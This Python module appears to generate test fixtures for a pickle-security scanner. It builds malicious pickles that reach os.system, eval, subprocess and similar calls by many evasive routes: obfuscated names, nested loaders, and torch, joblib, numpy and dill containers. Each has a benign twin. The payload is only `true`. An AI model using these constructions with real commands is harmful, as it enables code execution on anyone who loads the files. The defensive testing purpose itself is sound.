"""Pickles written by hand, opcode by opcode: ways to run code while loading, and honest twins of each.

Nothing is ever loaded. The payloads would do nothing worth mentioning (`true`), but would do it.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib

__all__ = ["benign", "malicious"]

P2, P3, P4, P5 = (b"\x80" + bytes([number]) for number in (2, 3, 4, 5))


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def s(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def b(raw: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def n(number: int) -> bytes:
    """BININT."""
    return b"J" + struct.pack("<i", number)


def t(*items: bytes) -> bytes:
    """TUPLE."""
    return b"(" + b"".join(items) + b"t"


def row(*items: bytes) -> bytes:
    """LIST."""
    return b"](" + b"".join(items) + b"e"


def table(**items: bytes) -> bytes:
    """DICT."""
    return b"}(" + b"".join(s(key) + value for key, value in items.items()) + b"u"


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE."""
    return function + t(*arguments) + b"R"


def new(kind: bytes, *arguments: bytes) -> bytes:
    """NEWOBJ."""
    return kind + t(*arguments) + b"\x81"


def sg(module: bytes, name: bytes) -> bytes:
    """STACK_GLOBAL."""
    return module + name + b"\x93"


def frame(body: bytes) -> bytes:
    """FRAME."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


SYSTEM = g("os", "system")
RUN = call(SYSTEM, s("true"))
GETATTR = g("builtins", "getattr")
IMPORT = g("builtins", "__import__")
_OS = call(IMPORT, s("os"))


def archive(members: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive with fixed dates."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, content in members.items():
            target.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), content, method)
    return out.getvalue()


def npy(pickle: bytes, descr: str = "'|O'") -> bytes:
    """A NumPy array of objects."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle


def wrapper(kind: str = "<f8", size: int = 3, **more: bytes) -> bytes:
    """The wrapper of joblib before the bytes of an array."""
    letters = kind.lstrip("<|")
    dtype = call(g("numpy", "dtype"), s(letters), b"\x89", b"\x88") + t(
        n(3), s(kind[0]), b"N", b"N", b"N", n(-1), n(-1), n(63 if "O" in kind else 0)
    ) + b"b"  # fmt: skip
    state = table(
        subclass=g("numpy", "ndarray"),
        shape=t(n(size)),
        order=s("C"),
        dtype=dtype,
        allow_mmap=b"\x88",
        **more,
    )
    return new(g("joblib.numpy_pickle", "NumpyArrayWrapper")) + state + b"b"


def tensor(storage: str = "FloatStorage", key: str = "0", size: int = 2) -> bytes:
    """A tensor as torch writes it."""
    kept = t(s("storage"), g("torch", storage), s(key), s("cpu"), n(size)) + b"Q"
    hooks = call(g("collections", "OrderedDict"))
    return call(g("torch._utils", "_rebuild_tensor_v2"), kept, n(0), t(n(size)), t(n(1)), b"\x89", hooks)


def state_dict() -> bytes:
    """A small state dict."""
    return P2 + call(g("collections", "OrderedDict")) + b"(" + s("weight") + tensor() + b"u."


MAGIC = P2 + b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."


def legacy(body: bytes) -> bytes:
    """The format of torch before its archives."""
    head = MAGIC + P2 + b"M\xe9\x03." + P2 + table(little_endian=b"\x88") + b"."
    return head + body + P2 + row(s("0")) + b"." + struct.pack("<Q", 2) + bytes(8)


def torch_zip(pickle: bytes, **more: bytes) -> bytes:
    """An archive as `torch.save` writes it."""
    members = {"m/data.pkl": pickle, "m/byteorder": b"little", "m/data/0": bytes(8), "m/version": b"3\n"}
    return archive({**members, **{name.replace("__", "/"): content for name, content in more.items()}})


def _names() -> dict[str, bytes]:
    """One name each that no honest file asks for."""
    pairs = {
        "os-popen": ("os", "popen"), "posix-system": ("posix", "system"), "nt-system": ("nt", "system"),
        "subprocess": ("subprocess", "Popen"), "eval": ("builtins", "eval"), "exec": ("builtins", "exec"),
        "compile": ("builtins", "compile"), "open": ("builtins", "open"), "python2-eval": ("__builtin__", "eval"),
        "commands": ("commands", "getoutput"), "pty": ("pty", "spawn"), "runpy": ("runpy", "run_path"),
        "runpy-private": ("runpy", "_run_code"), "socket": ("socket", "create_connection"),
        "urlopen": ("urllib.request", "urlopen"), "requests": ("requests", "post"), "webbrowser": ("webbrowser", "open"),
        "shutil": ("shutil", "rmtree"), "timeit": ("timeit", "timeit"), "cprofile": ("cProfile", "runctx"),
        "profile": ("profile", "Profile.run"), "pdb": ("pdb", "run"), "bdb": ("bdb", "Bdb.run"),
        "trace": ("trace", "Trace.run"), "doctest": ("doctest", "debug_script"), "code": ("code", "InteractiveInterpreter"),
        "pip-main": ("pip", "main"), "pip-internal": ("pip._internal", "main"), "ensurepip": ("ensurepip", "_run_pip"),
        "pydoc-pager": ("pydoc", "pipepager"), "ctypes": ("ctypes", "CDLL"), "asyncio":
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"), "multiprocessing":
        ("multiprocessing.util", "spawnv_passfds"), "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        "lib2to3": ("lib2to3.pgen2.grammar", "Grammar.loadgrammar"), "numpy-runstring":
        ("numpy.testing._private.utils", "runstring"), "numpy-crackfortran": ("numpy.f2py.crackfortran", "getlincoef"),
        "numpy-f2py": ("numpy.f2py.crackfortran", "myeval"), "torch-hub": ("torch.hub", "load"),
        "torch-jit-load": ("torch.jit", "load"), "torch-compile": ("torch._inductor.codecache", "compile_file"),
        "logging-config": ("logging.config", "fileConfig"), "zipimport": ("zipimport", "zipimporter"),
        "marshal": ("marshal", "loads"), "shelve": ("shelve", "open"), "pandas-eval": ("pandas", "eval"),
        "sys-modules": ("sys", "setprofile"), "signal": ("signal", "alarm"), "smtplib": ("smtplib", "SMTP"),
        "sqlite": ("sqlite3", "connect"), "platform-popen": ("platform", "popen"), "codeop": ("codeop", "compile_command"),
        "python2-execfile": ("__builtin__", "execfile"), "python2-apply": ("__builtin__", "apply"),
        "distutils": ("distutils.file_util", "write_file"), "nobody-knows": ("acme.internal.tools", "Deploy"),
    }  # fmt: skip
    return {f"name-{key}.pkl": P2 + call(g(*pair), s("true")) + b"." for key, pair in pairs.items()}


def _forms() -> dict[str, bytes]:
    """The same call in every form that the opcodes offer."""
    memo = short("os") + b"\x94" + short("system") + b"\x94"
    return {
        "form-protocol-0.pkl": b"cos\nsystem\n(S'true'\ntR.",
        "form-protocol-0-no-suffix": b"cos\nsystem\np0\n(Vtrue\np1\ntp2\nRp3\n.",
        "form-protocol-1.txt": b"(cos\nsystem\nq\x00U\x04trueo.",
        "form-inst.pkl": b"(S'true'\nios\nsystem\n.",
        "form-obj.pkl": P2 + b"(" + SYSTEM + s("true") + b"o.",
        "form-newobj.pkl": P2 + new(SYSTEM, s("true")) + b".",
        "form-newobj-ex.pkl": P4 + SYSTEM + t(s("true")) + b"}\x92.",
        "form-stack-global.pkl": P4 + frame(memo + b"\x93" + t(s("true")) + b"R."),
        "form-names-in-memo.pkl": P4 + memo + b"00h\x00h\x01\x93" + t(s("true")) + b"R.",
        "form-escaped.pkl": P4 + b"S'\\x6f\\x73'\nV\\u0073ystem\n\x93" + t(s("true")) + b"R.",
        "form-octal-memo.pkl": b"cos\nsystem\np010\n0g10\n(S'true'\ntR.",
        "form-no-proto.dat": SYSTEM + t(s("true")) + b"R.",
        "form-after-constants.bin": b"N0I01\n0I1\n0" + SYSTEM + t(s("true")) + b"R.",
        "form-after-long-constant": b"T" + struct.pack("<I", 100_000) + b"a" * 100_000 + b"0" + RUN + b".",
        "form-after-long-line": b"V" + b"a" * 100_000 + b"\n0" + RUN + b".",
        "form-after-many-operations": b"N0" * 40_000 + RUN + b".",
        "form-proto-in-mid-stream.pkl": P2 + b"N0" + P4 + sg(s("os"), s("system")) + t(s("true")) + b"R.",
        "form-list-as-arguments.pkl": P2 + SYSTEM + row(s("true")) + b"R.",
        "form-without-stop.pkl": P2 + RUN,
        "form-breaks-off.pkl": P2 + RUN + b"X\xff\xff\xff\x7f",
        "form-garbage-behind.pkl": b"cos\nsystem\n(S'true'\ntR\xff\xfe garbage",
        "form-short-frame.pkl": P4 + b"\x95\x02" + bytes(7) + RUN + b".",
        "form-split-frame.pkl": P4 + b"\x95\x03" + bytes(7) + g("collections", "OrderedDict") + b")R.",
        "form-popped.pkl": P2 + RUN + b"0" + table(weights=row(n(1))) + b".",
        "form-in-a-list.pkl": P2 + row(n(1), RUN, n(2)) + b".",
        "form-as-a-key.pkl": P2 + b"}(" + RUN + b"Nu.",
        "form-dotted.pkl": P4 + sg(s("logging"), s("os.system")) + t(s("true")) + b"R.",
        "form-dotted-in-protocol-2.pkl": P2 + call(g("sklearn", "os.system"), s("true")) + b".",
        "form-after-float.pkl": b"}F1.0\n" + RUN + b".",
        "form-after-bytearray.pkl": P5 + b"\x96" + struct.pack("<Q", 2) + b"ab" + RUN + b".",
        "form-memo-written-again.pkl": P4 + short("math") + b"q\x05" + short("os") + b"q\x05" + short("system")
        + b"q\x0700" + b"0h\x05h\x07\x93" + t(s("true")) + b"R.",
        "form-memo-count-with-gaps.pkl": P4 + short("os") + b"r\x00\x10\x00\x00\x94" + short("system") + b"\x9400h\x01"
        + b"h\x02\x93" + t(s("true")) + b"R.",
        "form-buffer.pkl": P5 + RUN + b"\x97.",
        "form-second-stream.pkl": P4 + b"N." + P4 + RUN + b".",
        "form-second-stream-without-proto.pkl": P4 + b"}." + RUN + b".",
        "form-third-stream-after-protocol-0.pkl": b"N.(I1\nI2\nt." + P2 + RUN + b".",
        "form-extension.pkl": P2 + call(g("copyreg", "add_extension"), s("os"), s("system"), n(7)) + b"0\x82\x07"
        + t(s("true")) + b"R.",
        "form-unregistered-extension.pkl": P2 + b"\x82\x07" + t(s("true")) + b"R.",
        "form-python-2-reduce.pkl": P2 + call(g("copy_reg", "_reconstructor"), g("subprocess", "Popen"),
                                            g("__builtin__", "object"), b"N") + b".",
        "form-newobj-through-copyreg.pkl": P2 + call(g("copyreg", "__newobj__"), g("subprocess", "Popen"), s("true")) + b".",
    }  # fmt: skip


def _ladders() -> dict[str, bytes]:
    """Names that are put together, or reached through others."""
    joined = call(g("builtins", "str.join"), s(""), row(s("sys"), s("tem")))
    added = call(g("operator", "add"), s("sys"), s("tem"))
    encoded = call(g("_codecs", "encode"), s("flfgrz"), s("rot13"))
    decoded = call(g("builtins", "bytes.decode"), call(g("base64", "b64decode"), s("c3lzdGVt")))
    packed = call(g("builtins", "bytes.decode"), call(g("zlib", "decompress"), b(zlib.compress(b"system"))))
    letters = [call(g("builtins", "chr"), n(ord(letter))) for letter in "system"]
    spelled = call(g("builtins", "str.join"), s(""), row(*letters))
    back = call(g("builtins", "str.join"), s(""), call(g("builtins", "reversed"), s("metsys")))
    picked = call(g("operator", "getitem"), row(s("x"), s("system")), n(1))
    cut = call(g("operator", "getitem"), s("xxsystem"), call(g("builtins", "slice"), n(2), b"N"))
    formed = call(g("operator", "mod"), s("sys%s"), s("tem"))
    lower = call(g("builtins", "str.lower"), s("SYSTEM"))
    swapped = call(g("builtins", "str.replace"), s("sysXtem"), s("X"), s(""))
    method = call(call(GETATTR, s(""), s("join")), row(s("sys"), s("tem")))
    hexed = call(g("builtins", "bytes.decode"), call(g("builtins", "bytes.fromhex"), s("73797374656d")))
    ways = {
        "join": joined, "add": added, "rot13": encoded, "base64": decoded, "zlib": packed, "chr": spelled,
        "reversed": back, "getitem": picked, "slice": cut, "format": formed, "lower": lower, "replace": swapped,
        "bound-join": method, "hex": hexed,
    }  # fmt: skip
    found = {f"name-by-{key}.pkl": P4 + sg(s("os"), way) + t(s("true")) + b"R." for key, way in ways.items()}
    modules = call(g("operator", "getitem"), g("sys", "modules"), s("os"))
    pair = t(_OS)
    getter = call(g("operator", "attrgetter"), s("system"))
    classes = call(call(GETATTR, g("builtins", "object"), s("__subclasses__")))
    return found | {
        "name-not-told.pkl": P4 + sg(s("os"), call(g("acme", "name"))) + t(s("true")) + b"R.",
        "ladder-getattr.pkl": P2 + call(call(GETATTR, _OS, s("system")), s("true")) + b".",
        "ladder-getattr-computed.pkl": P2 + call(call(GETATTR, g("numpy", "ndarray"), joined), s("true")) + b".",
        "ladder-import-module.pkl": P2
        + call(call(GETATTR, call(g("importlib", "import_module"), s("os")), s("system")), s("true")) + b".",
        "ladder-sys-modules.pkl": P2 + call(call(GETATTR, modules, s("system")), s("true")) + b".",
        "ladder-attrgetter.pkl": P2 + call(getter + pair + b"R", s("true")) + b".",
        "ladder-methodcaller.pkl": P2 + call(g("operator", "methodcaller"), s("system"), s("true")) + pair + b"R.",
        "ladder-subclasses.pkl": P2 + classes + b".",
        "ladder-globals.pkl": P2 + call(GETATTR, call(GETATTR, g("collections", "OrderedDict"), s("__init__")),
                                       s("__globals__")) + b".",
        "ladder-class-of-constant.pkl": P2 + call(GETATTR, s(""), s("__class__")) + b".",
        "ladder-object-getattribute.pkl": P2 + call(g("builtins", "object.__getattribute__"), _OS, s("system")) + b".",
        "ladder-vars.pkl": P2 + call(call(g("operator", "getitem"), call(g("builtins", "vars"), _OS), s("system")),
                                    s("true")) + b".",
        "ladder-dict-of-module.pkl": P4 + call(call(g("operator", "getitem"), sg(s("os"), s("__dict__")), s("system")),
                                              s("true")) + b".",
        "ladder-partial.pkl": P2 + call(g("functools", "partial"), SYSTEM, s("true")) + b")R.",
        "ladder-partial-of-getattr.pkl": P2 + call(g("functools", "partial"), GETATTR, g("numpy", "ndarray")) + b".",
        "ladder-partial-by-state.pkl": P2 + call(g("functools", "partial"), g("builtins", "int"))
        + t(SYSTEM, t(s("true")), b"}", b"N") + b"b)R.",
        "ladder-map.pkl": P2 + call(g("builtins", "list"), call(g("builtins", "map"), g("builtins", "eval"), row(s("1"))))
        + b".",
        "ladder-reduce.pkl": P2 + call(g("functools", "reduce"), GETATTR, row(s("system")), _OS) + b".",
        "ladder-starmap.pkl": P2 + call(g("itertools", "starmap"), SYSTEM, row(t(s("true")))) + b".",
        "ladder-operator-call.pkl": P2 + call(g("operator", "call"), SYSTEM, s("true")) + b".",
        "ladder-ufunc.pkl": P2 + call(call(g("numpy.core", "_ufunc_reconstruct"), s("os"), s("system")), s("true")) + b".",
        "ladder-defaultdict.pkl": P2 + call(g("collections", "defaultdict"), SYSTEM) + b".",
        "ladder-defaultdict-of-getattr.pkl": P2 + call(g("collections", "defaultdict"), GETATTR) + b".",
        "ladder-from-type.pkl": P2 + call(g("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, g("torch", "Tensor"),
                                         t(s("true")), b"}") + b".",
        "ladder-type-builds-class.pkl": P2 + call(g("builtins", "type"), s("X"), b")", b"}") + b".",
        "ladder-function-type.pkl": P2 + call(g("types", "FunctionType"), call(g("marshal", "loads"), b(b"\xe3")), b"}") + b".",
        "ladder-computed-call.pkl": P2 + call(call(g("collections", "OrderedDict")), s("true")) + b".",
    }  # fmt: skip


def _changes() -> dict[str, bytes]:
    """Streams that change what does not belong to them, or plant what is called next."""
    return {
        "change-class-by-slots.pkl": P2 + g("collections", "OrderedDict") + t(b"N", table(__init__=g("os", "system")))
        + b"b.",
        "change-module.pkl": P2 + g("sys", "modules") + s("os") + b"Ns.",
        "change-class.pkl": P2 + g("collections", "Counter") + t(b"N", table(update=g("builtins", "int"))) + b"b.",
        "change-setattr.pkl": P2 + call(g("builtins", "setattr"), g("collections", "Counter"), s("update"), b"N") + b".",
        "change-setstate.pkl": P2 + new(g("collections", "OrderedDict")) + table(__setstate__=g("builtins", "int"))
        + b"b" + s("1") + b"b.",
        "change-append-to-path.pkl": P4 + sg(s("sys"), s("path")) + s("/tmp") + b"a.",
    }  # fmt: skip


def _nested() -> dict[str, bytes]:
    """Pickles that loaders of the stream load in turn."""
    inner = P2 + RUN + b"."
    buffer = call(g("io", "BytesIO"), b(inner))
    from_bytes = g("torch.storage", "_load_from_bytes")
    twice = P2 + call(from_bytes, b(inner)) + b"."
    encoded = call(g("_codecs", "encode"), s(inner.decode("latin-1")), s("latin1"))
    fetched = P2 + SYSTEM + b"."
    return {
        "nested-load-from-bytes.pkl": P2 + call(from_bytes, b(inner)) + b".",
        "nested-load-from-bytes-twice.pkl": P2 + call(from_bytes, b(twice)) + b".",
        "nested-load-from-encoded-text.pkl": P2 + call(from_bytes, encoded) + b".",
        "nested-load-from-legacy.pkl": P2 + call(from_bytes, b(legacy(inner))) + b".",
        "nested-load-from-zip.pkl": P2 + call(from_bytes, b(torch_zip(inner))) + b".",
        "nested-load-from-computed.pkl": P2 + call(from_bytes, call(g("acme", "content"))) + b".",
        "nested-pickle-loads.pkl": P2 + call(g("pickle", "loads"), b(inner)) + b".",
        "nested-private-loads.pkl": P2 + call(g("_pickle", "loads"), b(inner)) + b".",
        "nested-torch-load.pkl": P2 + call(g("torch", "load"), buffer) + b".",
        "nested-joblib-load.pkl": P2 + call(g("joblib", "load"), buffer) + b".",
        "nested-numpy-load.pkl": P2
        + call(g("numpy", "load"), call(g("io", "BytesIO"), b(npy(inner))))
        + b".",
        "nested-gives-the-callable.pkl": P2 + call(call(from_bytes, b(fetched)), s("true")) + b".",
        "nested-handed-on.pkl": P2 + call(g("functools", "partial"), from_bytes, b(P2 + b"N.")) + b".",
    }


def _carriers() -> dict[str, bytes]:
    """Formats that carry pickles."""
    inner = P2 + RUN + b"."
    hidden = wrapper("<f8", 4) + RUN
    code = call(
        g("dill._dill", "_create_code"), n(0), n(0), n(0), n(0), n(1), n(67), b(b"d\x00"), t(b"N"), b")", b")", s("<x>"),
        s("steal"), n(1), b(b""), b")", b")",
    )  # fmt: skip
    return {
        "carrier-gzip.pkl.gz": gzip.compress(inner, mtime=0),
        "carrier-bz2.joblib": bz2.compress(inner),
        "carrier-xz.joblib": lzma.compress(inner),
        "carrier-zlib.joblib": zlib.compress(inner),
        "carrier-old-joblib.joblib": b"ZF" + hex(len(inner)).ljust(19).encode() + zlib.compress(inner),
        "carrier-joblib-after-array.joblib": P2 + row(wrapper() + bytes(24), RUN) + b".",
        "carrier-joblib-object-array.joblib": P2 + row(wrapper("|O8", 1) + inner) + b".",
        "carrier-joblib-array-is-program.pkl": P2 + hidden + b".",
        "carrier-array.npy": npy(inner),
        "carrier-array-nested-type.npy": npy(inner, "[('a', '<i4'), ('b', [('c', '|O')])]"),
        "carrier-array-named-object.npy": npy(inner, "'object'"),
        "carrier-array-comma.npy": npy(inner, "'i4,O'"),
        "carrier-arrays.npz": archive({"a.npy": npy(inner)}),
        "carrier-packed-arrays.npz": archive({"a.npy": npy(inner)}, method=zipfile.ZIP_DEFLATED),
        "carrier-pickle-called.npy": inner,
        "carrier-torch.pt": torch_zip(inner),
        "carrier-torch-after-weights.pt": torch_zip(state_dict()[:-1] + b"0" + RUN + b"."),
        "carrier-torch-capitals.pt": archive({"m/DATA.PKL": inner, "m/data/0": bytes(8), "m/version": b"3"}),
        "carrier-torch-packed.pt": archive({"m/data.pkl": inner}, method=zipfile.ZIP_DEFLATED),
        "carrier-torch-legacy.pt": legacy(inner),
        "carrier-torch-legacy-keys.pt": MAGIC + P2 + b"M\xe9\x03." + P2 + b"}." + P2 + b"}." + P2 + RUN + b".",
        "carrier-torchscript.pt": torch_zip(inner, m__constants_pkl=b"").replace(b"constants_pkl", b"constants.pkl"),
        "carrier-dill.pkl": P4 + call(g("dill._dill", "_create_function"), code, b"}", s("steal"), b"N") + b".",
        "carrier-cloudpickle.pkl": P4
        + call(g("cloudpickle.cloudpickle", "_make_function"), call(g("cloudpickle.cloudpickle", "_builtin_type"),
                                                                    s("CodeType"))) + b".",
        "carrier-package.pt": archive({
            "m/.data/extern_modules": b"os\n", "m/.data/python_version": b"3.11", "m/net.py": b"import os\nos.system('true')\n",
            "m/model/model.pkl": P2 + new(g("net", "Net")) + b".",
        }),
    }  # fmt: skip


def malicious() -> dict[str, bytes]:
    """Files that run code, or reach what nobody has vetted, when their usual loader loads them."""
    return _names() | _forms() | _ladders() | _changes() | _nested() | _carriers() | _carried()


def _carried() -> dict[str, bytes]:
    """Programs that wait in the data of a pickle which runs nothing itself."""
    program = P2 + RUN + b"."
    dill_code = s("dill._dill") + s("_load_type") + b"\x93" + s("CodeType") + b"\x85R."
    return {
        "carried-raw.pkl": P4 + b(program) + b".",
        "carried-base64.pkl": P4 + s(base64.b64encode(program).decode()) + b".",
        "carried-base64-of-urls.pkl": P4 + s(base64.urlsafe_b64encode(program).decode().rstrip("=")) + b".",
        "carried-hexadecimal.pkl": P4 + s(program.hex()) + b".",
        "carried-as-text.pkl": P2
        + call(g("_codecs", "encode"), s((P4 + RUN + b".").decode("latin-1")), s("latin1"))
        + b".",
        "carried-as-text-in-archive.pt": torch_zip(
            P2 + table(notes=call(g("_codecs", "encode"), s(program.decode("latin-1")), s("latin1"))) + b"."
        ),
        "carried-in-archive.pt": torch_zip(P4 + table(notes=b(program)) + b"."),
        "dill-type-of-code.pkl": P4 + dill_code,
    }


def _plain() -> dict[str, bytes]:
    """Data without any callable, in every form."""
    honest = P2 + s("a") + b"."
    return {
        "plain-none.pkl": P4 + b"N.",
        "plain-protocol-0.pkl": b"(dp0\nVa\np1\n(lp2\nI1\naI01\naF1.5\nas.",
        "plain-protocol-1.pkl": b"}q\x00(U\x01aq\x01]q\x02(K\x01K\x02eu.",
        "plain-protocol-5.pkl": P5
        + frame(b"}\x94" + short("a") + b"\x94" + row(n(1), b"G" + bytes(8)) + b"\x94s."),
        "plain-sets.pkl": P4 + b"\x8f(K\x01K\x02\x90.",
        "plain-frozen-set.pkl": P4 + b"(K\x01K\x02\x91.",
        "plain-bytes-that-are-a-pickle.pkl": P4 + b(honest) + b".",
        "plain-text-that-is-a-pickle.pkl": P4 + s("cos\nsystem\n(S'true'\ntR.") + b".",
        "plain-names-as-data.pkl": P4 + row(s("os"), s("system"), s("builtins.eval")) + b".",
        "plain-many-memo-places.pkl": P4 + b"](" + b"".join(n(i) + b"\x94" for i in range(3000)) + b"e.",
        "plain-deep.pkl": P4 + b"N" + b"\x85" * 5000 + b".",
        "plain-big-numbers.pkl": P2 + b"\x8a\x20" + bytes(31) + b"\x01.",
        "plain-bytearray.pkl": P5 + b"\x96" + struct.pack("<Q", 4) + b"abcd.",
        "plain-two-streams.pkl": P4 + b"N." + P4 + b"K\x01.",
        "plain-frames.pkl": P4 + frame(b"]" + b"\x94(") + frame(b"K\x01K\x02e."),
        "plain-recursive.pkl": P4 + b"]\x94h\x00a.",
    }


def _objects() -> dict[str, bytes]:
    """Objects of well-known libraries."""
    order = g("collections", "OrderedDict")
    dtype = call(g("numpy", "dtype"), s("f8"), b"\x89", b"\x88") + t(
        n(3), s("<"), b"N", b"N", b"N", n(-1), n(-1), n(0)
    ) + b"b"  # fmt: skip
    latin = call(g("_codecs", "encode"), s("\x00\x01"), s("latin1"))
    array = call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(n(0)), latin)
    array += t(n(1), t(n(1)), dtype, b"\x89", b(bytes(8))) + b"b"
    scalar = call(g("numpy.core.multiarray", "scalar"), dtype, b(bytes(8)))
    model = new(g("sklearn.linear_model._base", "LinearRegression"))
    model += table(coef_=array, intercept_=scalar, _sklearn_version=s("1.4.0")) + b"b"
    return {
        "object-ordered-dict.pkl": P2 + order + b")R(" + s("a") + n(1) + b"u.",
        "object-ordered-dict-pairs.pkl": P2 + call(order, row(row(s("a"), n(1)))) + b".",
        "object-default-dict.pkl": P2 + call(g("collections", "defaultdict"), g("__builtin__", "list")) + b".",
        "object-set-of-python-2.pkl": P2 + call(g("__builtin__", "set"), row(n(1))) + b".",
        "object-range-of-python-2.pkl": P2 + call(g("__builtin__", "xrange"), n(0), n(3), n(1)) + b".",
        "object-type-of-none.pkl": P2 + call(g("builtins", "type"), b"N") + b".",
        "object-slice.pkl": P4 + call(g("builtins", "slice"), n(1), b"N", b"N") + b".",
        "object-complex.pkl": P4 + call(g("builtins", "complex"), b"G" + bytes(8), b"G" + bytes(8)) + b".",
        "object-date.pkl": P4 + call(g("datetime", "date"), b(b"\x07\xe8\x01\x01")) + b".",
        "object-partial.pkl": P4 + call(g("functools", "partial"), g("builtins", "int"))
        + t(g("builtins", "int"), b")", table(base=n(2)), b"N") + b"b.",
        "object-bound-method.pkl": P4 + call(GETATTR, model, s("predict")) + b".",
        "object-array.pkl": P2 + array + b".",
        "object-scalar.pkl": P2 + scalar + b".",
        "object-ufunc.pkl": P2 + call(g("numpy.core", "_ufunc_reconstruct"), s("numpy.core._multiarray_umath"), s("add")) + b".",
        "object-estimator.pkl": P4 + model + b".",
        "object-estimator-protocol-0.pkl": b"ccopy_reg\n_reconstructor\n(csklearn.linear_model._base\nLinearRegression\n"
        b"c__builtin__\nobject\nNtR(dVfit_intercept\nI01\nsb.",
        "object-tensor-inside.pkl": P2 + call(g("torch.storage", "_load_from_bytes"), b(legacy(state_dict()))) + b".",
        "object-parameter.pt": torch_zip(P2 + call(g("torch._utils", "_rebuild_parameter"), tensor(), b"\x88",
                                                  order + b")R") + b"."),
        "object-item-getter.pkl": P4 + call(g("operator", "itemgetter"), n(0)) + b".",
        "object-uuid.pkl": P4 + new(g("uuid", "UUID")) + table(int=n(7)) + b"b.",
    }  # fmt: skip


def _honest_carriers() -> dict[str, bytes]:
    inner = P2 + table(a=n(1)) + b"."
    wrapped = P2 + table(w=wrapper() + bytes(24)) + b"."
    aligned = (
        P2 + table(w=wrapper(numpy_array_alignment_bytes=n(16)) + b"\x05" + b"\xff" * 5 + bytes(24)) + b"."
    )
    return {
        "honest-gzip.pkl.gz": gzip.compress(inner, mtime=0),
        "honest-bz2.joblib": bz2.compress(wrapped),
        "honest-xz.joblib": lzma.compress(wrapped),
        "honest-zlib.joblib": zlib.compress(wrapped),
        "honest-old-joblib.joblib": b"ZF" + hex(len(inner)).ljust(19).encode() + zlib.compress(inner),
        "honest-arrays.joblib": wrapped,
        "honest-aligned-arrays.joblib": aligned,
        "honest-object-array.joblib": P2 + row(wrapper("|O8", 1) + P2 + row(s("a")) + b".") + b".",
        "honest-object-array.npy": npy(P2 + row(s("a")) + b"."),
        "honest-array.npy": npy(bytes(8), "'<f8'"),
        "honest-arrays.npz": archive(
            {"a.npy": npy(bytes(8), "'<f8'"), "b.npy": npy(P2 + row(s("a")) + b".")}
        ),
        "honest-torch.pt": torch_zip(state_dict()),
        "honest-torch-legacy.pt": legacy(state_dict()),
        "honest-pickle-as-text.pkl": P2
        + call(
            g("_codecs", "encode"),
            s((P2 + b"]" + n(7) + b"a.\xff").decode("latin-1") + "\u20ac"),
            s("latin1"),
        )
        + b".",
        "honest-pickle-behind-base64.pkl": P2 + s(base64.b64encode(P2 + b"]" + n(7) + b"a.").decode()) + b".",
    }


def benign() -> dict[str, bytes]:
    """Files that run nothing but what honest libraries write."""
    return _plain() | _objects() | _honest_carriers()
